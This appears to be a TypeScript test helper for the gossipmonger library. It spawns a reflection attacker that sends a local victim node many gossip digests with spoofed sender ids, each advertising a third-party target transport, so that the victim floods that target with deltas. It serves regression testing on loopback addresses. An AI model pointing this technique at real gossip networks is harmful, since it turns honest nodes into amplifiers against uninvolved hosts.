/**
 * A reflection attacker, run in its own process by outbound.test.ts: from
 * 127.0.0.2 it sends the victim N digests, each from a new sender id whose
 * advertised transport is the target. gossipmonger answers every one of them
 * by sending deltas to that transport.
 *
 * Usage: node reflection-attacker.js VICTIM_PORT TARGET_PORT N
 */
import { connect } from 'node:net';

const [victimPort, targetPort, count] = process.argv.slice(2).map(Number) as [number, number, number];
const socket = connect({ host: '127.0.0.1', port: victimPort, localAddress: '127.0.0.2' });
socket.on('error', () => process.exit(0));
socket.once('connect', () => {
  const frames: string[] = [];
  for (let i = 0; i < count; i++) {
    frames.push(JSON.stringify({
      digest: [{ id: 'victim', maxVersionSeen: 0 }],
      sender: { id: `reflector-${i}`, transport: { host: '127.0.0.3', port: targetPort } }
    }));
  }
  socket.end(frames.join('\r\n') + '\r\n');
});
socket.on('data', () => {});
socket.once('close', () => process.exit(0));
